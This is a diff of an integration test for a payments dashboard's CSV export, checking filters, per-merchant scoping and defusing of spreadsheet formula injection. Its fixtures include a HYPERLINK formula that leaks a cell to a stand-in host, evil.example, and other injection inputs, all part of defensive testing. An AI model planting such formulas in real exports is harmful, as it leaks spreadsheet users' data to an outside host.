@@ -1,6 +1,7 @@
 """The dashboard's CSV export of the payments list, on real PostgreSQL: every field of the
 payment object, the list's filters, only this merchant's payments in this mode, streamed
 in batches, and cells a spreadsheet would run as formulas defused (OWASP CSV injection)."""
+
 from __future__ import annotations
 
 import csv
@@ -20,8 +21,13 @@ from kassa_common.timefmt import utcnow
 from tests.integration.web.test_dashboard_manage import dash, post  # noqa: F401 - fixtures
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-HOSTILE = {HYPERLINK: "'" + HYPERLINK, "+1": "'+1", "@SUM(A1:A9)": "'@SUM(A1:A9)", "-2": "'-2",
-           "Plain Name": "Plain Name"}
+HOSTILE = {
+    HYPERLINK: "'" + HYPERLINK,
+    "+1": "'+1",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "-2": "'-2",
+    "Plain Name": "Plain Name",
+}
 BODY = {"amount": 5, "token": "USDC", "network": "BASE"}
 
 
@@ -36,8 +42,9 @@ def shop(dash, sessions, app):
     dash.made = {}
     for name in HOSTILE:
         metadata = {"order": "=1+1", "note": "@cmd", "n": 3} if name == "Plain Name" else {"order": name}
-        r = api.post("/v1/api/payments", json={**BODY, "customer_name": name, "metadata": metadata},
-                     headers={"X-Api-Key": key})
+        r = api.post(
+            "/v1/api/payments", json={**BODY, "customer_name": name, "metadata": metadata}, headers={"X-Api-Key": key}
+        )
         assert r.status_code == 201, r.get_data(as_text=True)
         dash.made[name] = r.json["data"]
     dash.api = lambda path: api.get(f"/v1/api{path}", headers={"X-Api-Key": key}).json["data"]
@@ -109,15 +116,17 @@ def test_the_list_links_to_the_export_with_its_filters(shop):
     page = shop.get("/dashboard/payments?status=PENDING&search=Plain").get_data(as_text=True)
     link = re.search(r'<a id="export-csv"[^>]* href="([^"]+)"', page).group(1).replace("&amp;", "&")
     assert link.startswith("/dashboard/payments/export.csv?") and {"status=PENDING", "search=Plain"} == set(
-        link.split("?", 1)[1].split("&"))
+        link.split("?", 1)[1].split("&")
+    )
     assert [r["customer_name"] for r in exported(shop, "?" + link.split("?", 1)[1])] == ["Plain Name"]
     assert 'href="/dashboard/payments/export.csv"' in shop.get("/dashboard/payments").get_data(as_text=True)
 
 
 def test_other_merchants_and_the_other_modes_payments_are_not_exported(shop, make_merchant, client):
     other = make_merchant()
-    theirs = client.post("/v1/api/payments", json={**BODY, "customer_name": "Plain Name"},
-                         headers=other.headers()).json["data"]["id"]
+    theirs = client.post(
+        "/v1/api/payments", json={**BODY, "customer_name": "Plain Name"}, headers=other.headers()
+    ).json["data"]["id"]
     ids = {r["id"] for r in exported(shop)}
     assert theirs not in ids and len(ids) == len(HOSTILE)
     assert post(shop, "/dashboard/mode", mode="live", next="/dashboard/payments").status_code == 303
